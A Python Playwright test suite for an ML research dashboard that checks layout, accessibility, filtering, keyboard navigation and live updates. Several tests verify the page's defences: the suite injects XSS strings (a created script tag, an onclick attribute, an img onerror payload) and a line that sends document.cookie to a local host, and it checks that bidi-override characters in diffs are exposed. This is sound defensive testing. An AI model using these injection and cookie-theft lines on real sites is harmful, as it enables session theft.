"""The page as a person has it: in a real browser, by mouse and keyboard, hostile texts included."""

import contextlib
from importlib import util
from pathlib import Path

import pytest
from playwright.sync_api import expect

from research_env.dashboard import report

_spec = util.spec_from_file_location("searches", Path(__file__).with_name("conftest.py"))
assert _spec and _spec.loader
searches = util.module_from_spec(_spec)
_spec.loader.exec_module(searches)

PATIENCE = 120_000  # milliseconds: the machine may have other work
VIEWS = {"light": ("light", 1300), "dark": ("dark", 1300), "phone": ("light", 360),
         "dark phone": ("dark", 360)}  # fmt: skip

# Of texts in HTML that are seen and lie on a plain background: how they stand out from it.
CONTRASTS = """
() => {
  const rgba = (text) => [...text.match(/[\\d.]+/g).map(Number), 1].slice(0, 4);
  const luminance = ([r, g, b]) => {
    const linear = (c) => (c /= 255) <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
    return 0.2126 * linear(r) + 0.7152 * linear(g) + 0.0722 * linear(b);
  };
  const below = (e) => {
    for (; e; e = e.parentElement) {
      const style = getComputedStyle(e);
      if (!/^rgba?\\(/.test(style.backgroundColor)) return null; // a mixture
      const colour = rgba(style.backgroundColor);
      if (colour[3] === 1) return colour;
    }
    return [255, 255, 255, 1];
  };
  const found = [];
  for (const e of document.querySelectorAll('body *:not(svg *, option, :disabled)')) {
    const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim());
    if (!own || !e.checkVisibility()) continue;
    const ground = below(e);
    if (!ground) continue;
    const [a, b] = [rgba(getComputedStyle(e).color), ground].map(luminance);
    found.push([e.textContent.slice(0, 40), (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)]);
  }
  return found;
}
"""


@contextlib.contextmanager
def opened(browser, address, view="light", **options):
    """A page, and what it asked for, complained of, or would have shown by alert()."""
    scheme, width = VIEWS[view]
    context = browser.new_context(
        color_scheme=scheme, viewport={"width": width, "height": 800}, **options
    )
    context.add_init_script("window.alert = () => { window.hacked = true; };")
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    said = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: (said.append("dialog"), dialog.dismiss()))
    page.on("request", lambda request: said.append(f"asks {request.url}"))
    page.goto(address, wait_until="load")
    page.said = said
    try:
        yield page
    finally:
        context.close()


@pytest.fixture(scope="module")
def found(tmp_path_factory):
    """A search that found something, with its report."""
    made = searches.Search(tmp_path_factory.mktemp("found"))
    searches.evolve(made, 120)
    made.idea("It waits", kind="exploit", parents=(made.bank.best(1)[0].id,))
    for best in made.bank.best(2):
        made.bank.promote(best.id)
        made.run(best.id, searches.ok(best.score), "selection", 7)
    report.write(made.workdir)
    return made


def in_file(made):
    return (made.workdir / "report" / "index.html").as_uri()


OWN_BOX = ".scroll, .lineage, pre, svg, .lines, .hidden, .skip, #table"  # where all may be wider
SIDEWAYS = """
(own) => {
  const wide = [...document.querySelectorAll('body *')].filter((e) => e.checkVisibility()
    && !e.closest(own) && e.getBoundingClientRect().right > innerWidth + 1);
  const page = document.documentElement.scrollWidth > innerWidth ? ['page'] : [];
  return [...page, ...wide.map((e) => e.outerHTML.slice(0, 80))];
}
"""
CROWDED = """
() => [...document.querySelectorAll('figure > svg')].flatMap((svg) => {
  const box = svg.getBoundingClientRect();
  const texts = [...svg.querySelectorAll('text')]
    .map((t) => [t.textContent, t.getBoundingClientRect()]).filter(([, b]) => b.width);
  return texts.flatMap(([a, p], i) => [
    ...(p.left < box.left - 1 || p.right > box.right + 1 || p.bottom > box.bottom + 1 ? [a] : []),
    ...texts.slice(i + 1).filter(([, q]) => p.left < q.right - 1 && q.left < p.right - 1
      && p.top < q.bottom - 3 && q.top < p.bottom - 3).map(([b]) => `${a} / ${b}`)]);
})
"""
UNFOLD = "document.querySelectorAll('#pane details').forEach((d) => { d.open = true; })"
STRANGE = "img, iframe, object, embed, base, video, form:not(#filters), [onload], [onerror]"


def sideways(page):
    """What reaches beyond the window, without what scrolls in a box of its own."""
    return page.evaluate(SIDEWAYS, OWN_BOX)


@pytest.mark.parametrize("view", VIEWS)
def test_it_is_whole_on_every_screen_and_complains_of_nothing(browser, found, view):
    with opened(browser, in_file(found), view) as page:
        assert page.said == [f"asks {in_file(found)}"]
        for part in ("headline", "curve", "progress", "states", "verdict", "lineage"):
            assert page.locator(f"#section-{part}").is_visible()
        charts = page.locator("#section-curve figure > svg").all()
        assert [chart.is_visible() for chart in charts] == ["phone" not in view, "phone" in view]
        assert page.locator("#table tbody tr").count() == 50
        assert sideways(page) == []
        weak = [text for text in page.evaluate(CONTRASTS) if text[1] < 4.5]
        assert weak == []
        page.locator("#table tbody a").first.click()
        page.locator(".diff").first.wait_for()
        assert sideways(page) == []
        assert [text for text in page.evaluate(CONTRASTS) if text[1] < 4.5] == []
        assert page.said == [f"asks {in_file(found)}"]


def test_texts_of_the_chart_lie_in_it_and_do_not_overlap(browser, found):
    for view in ("light", "phone"):
        with opened(browser, in_file(found), view) as page:
            assert page.evaluate(CROWDED) == []


def column(page, name):
    return page.locator(f"#table tbody .w-{name}").all_inner_texts()


def test_the_table_is_sorted_filtered_and_turned(browser, found):
    with opened(browser, in_file(found)) as page:
        assert column(page, "score")[0] == f"{found.bank.best(1)[0].score:.4f}"
        page.get_by_role("button", name="#", exact=True).click()
        assert column(page, "id")[:3] == ["120", "119", "118"] or column(page, "id")[0] == "0"
        page.get_by_role("button", name="Next").last.click()
        assert page.locator("#where").inner_text() == "51–100 of 122"
        page.select_option("#state", "crashed")
        crashed = len(found.bank.ideas("crashed"))
        assert set(column(page, "state")) == {"crashed"} and len(column(page, "id")) == crashed
        page.fill("#query", "OPERANDS")  # of the reason
        assert len(column(page, "id")) == crashed
        page.fill("#query", "nobody said this")
        assert page.locator("#table tbody").inner_text() == "No idea is like that."
        page.get_by_role("button", name="Clear").click()
        page.locator("#table tbody tr").nth(49).wait_for()
        page.fill("#query", "#7")
        assert column(page, "id") == ["7"]
        page.get_by_role("button", name="Clear").click()
        page.check("#promoted")
        assert len(column(page, "id")) == 2
        page.uncheck("#promoted")
        page.locator(".chip", has_text="timed out").click()
        assert set(column(page, "state")) == {"timed out"}


def test_an_idea_is_read_by_keyboard_alone(browser, found):
    best = found.bank.best(2)
    with opened(browser, in_file(found)) as page:
        page.keyboard.press("/")
        assert page.evaluate("document.activeElement.id") == "query"
        page.locator("#table tbody a").first.focus()
        page.keyboard.press("Enter")
        pane = page.locator("#pane")
        assert pane.locator("h2").inner_text() == best[0].title
        assert "rate = " in pane.locator(".diff .add").first.inner_text()
        assert pane.locator(".diff .del .x").inner_text() == "0.0015"  # all that changed there
        assert pane.locator("tbody tr").count() == 2  # search and selection
        page.keyboard.press("j")
        assert pane.locator("h2").inner_text() == best[1].title
        page.keyboard.press("k")
        pane.get_by_text("Log of search").click()
        assert pane.locator("pre.log").inner_text().startswith("step 0 loss 10.9")
        page.keyboard.press("Escape")
        assert not pane.is_visible() and "#" not in page.url
        assert page.evaluate("document.activeElement.textContent").endswith(best[0].title)
        page.go_back()
        assert pane.is_visible()
        page.goto(f"{in_file(found)}#idea=9999")
        assert "There is no such idea." in pane.inner_text()


def test_the_curve_and_the_lineage_lead_to_ideas(browser, found):
    best = found.bank.best(1)[0]
    with opened(browser, in_file(found)) as page:
        page.locator(".lineage a.best").last.click()
        assert page.locator("#pane h2").inner_text() == best.title
        page.keyboard.press("Escape")
        page.locator("#section-curve svg.wide a").last.focus()
        page.keyboard.press("Enter")
        assert page.locator("#pane h2").inner_text() == best.title


@pytest.mark.parametrize("live", [False, True])
def test_no_text_of_a_model_runs_or_breaks_out(browser, hostile, live):
    report.write(hostile.workdir)
    with contextlib.ExitStack() as stack:
        if live:
            address = stack.enter_context(searches.served(hostile.workdir)).address
        else:
            address = in_file(hostile)
        page = stack.enter_context(opened(browser, address, "phone"))
        ideas = 2 * len(searches.HOSTILE) + 1
        assert page.locator("#table tbody tr").count() == ideas
        assert sideways(page) == []
        for number in range(1, ideas):
            page.evaluate(f"location.hash = 'idea={number}'")
            page.locator(f"#pane-id:has-text('Idea {number}')").wait_for()
            page.locator("#pane h3").first.wait_for()
            page.evaluate(UNFOLD)
            expect(page.locator("#pane summary:only-child")).to_have_count(0, timeout=PATIENCE)
        assert sideways(page) == []
        counts = {what: page.locator(what).count() for what in ("script", "dialog", STRANGE)}
        assert list(counts.values()) == [3, 1, 0]
        assert page.evaluate("window.hacked === undefined")
        title = page.title()
        assert searches.HOSTILE[0] in title
        assert [said for said in page.said if not said.startswith("asks ")] == []
        hosts = {said.split(" ")[1] for said in page.said}
        assert all(url.startswith(address.split("#")[0]) for url in hosts)


def test_what_hides_is_seen_in_a_change(browser, search):
    made = search()
    made.baseline(1.0)
    made.idea(
        "turned", searches.ok(2.0), diff="--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n+a \u202e# b"
    )
    report.write(made.workdir)
    with opened(browser, f"{in_file(made)}#idea=1") as page:
        assert "⟨U+202E⟩" in page.locator(".diff .add").inner_text()


SCRIPT = "const s = document.createElement('script'); s.textContent = 'window.hacked = 1';"


@pytest.mark.parametrize(
    "attack",
    [
        f"{SCRIPT} document.body.append(s)",
        "document.body.setAttribute('onclick', 'window.hacked = 1'); document.body.click()",
        "document.body.innerHTML = '<img src=x onerror=hacked=1>'",
        "new Image().src = 'http://127.0.0.1:9/?' + document.cookie; fetch('http://127.0.0.1:9/')",
    ],
)
def test_even_a_script_that_came_in_could_do_little(browser, found, attack):
    """The policy, in case that an escape was forgotten."""
    with opened(browser, in_file(found)) as page:
        page.evaluate(f"() => {{ try {{ {attack} }} catch (e) {{}} }}")
        assert page.evaluate("window.hacked") is None
        failed = [said for said in page.said if "Content Security" in said or "requires" in said]
        assert failed


def test_a_live_page_changes_by_itself_and_keeps_its_place(browser, search):
    made = search(direction="maximize", metric="accuracy")
    made.baseline(0.5, 0.52)
    made.idea("First of all", searches.ok(0.6))
    with searches.served(made.workdir) as server, opened(browser, server.address) as page:
        page.locator("#live", has_text="Live").wait_for()
        page.fill("#query", "of all")
        page.locator("#section-lineage .lineage a").last.focus()
        page.evaluate("window.kept = true")
        made.idea("Better of all", searches.ok(0.8))
        page.locator("#table tbody a", has_text="Better of all").wait_for()
        assert page.locator("#section-headline .figure").inner_text() == "0.8000"
        assert column(page, "id") == ["2", "1"] and page.input_value("#query") == "of all"
        assert page.title() == "0.8000 · 2 ideas · nanogpt"
        assert page.evaluate("window.kept && document.activeElement.textContent").startswith("#1")
        page.locator("#table tbody a").first.click()
        page.get_by_text("Log of").wait_for(state="detached")
        made.run(2, searches.ok(0.79), "selection", 5, log="new log")
        made.bank.promote(2)
        page.locator("#pane tbody tr").nth(1).wait_for()
        page.get_by_text("Log of selection").click()
        assert page.locator("pre.log").inner_text() == "new log"
        assert page.locator("#section-verdict").is_visible()
        assert [said for said in page.said if not said.startswith("asks ")] == []


def test_a_live_page_says_when_nobody_answers(browser, found):
    with opened_after_end(browser, found) as page:
        page.locator("#live", has_text="No connection").wait_for()
        assert page.locator("#table tbody tr").count() == 50


@contextlib.contextmanager
def opened_after_end(browser, made):
    with contextlib.ExitStack() as stack:
        with searches.served(made.workdir) as server:
            page = stack.enter_context(opened(browser, server.address))
            page.locator("#live", has_text="Live").wait_for()
            page.route("**/events", lambda route: route.abort())
            page.reload()
        yield page


def test_without_scripts_the_file_still_says_what_was_found(browser, found):
    with opened(browser, in_file(found), java_script_enabled=False) as page:
        assert found.bank.best(1)[0].title in page.locator("#section-headline").inner_text()
        assert page.locator(".lineage li").count() > 10
        assert "needs JavaScript" in page.locator("#ideas").inner_text()
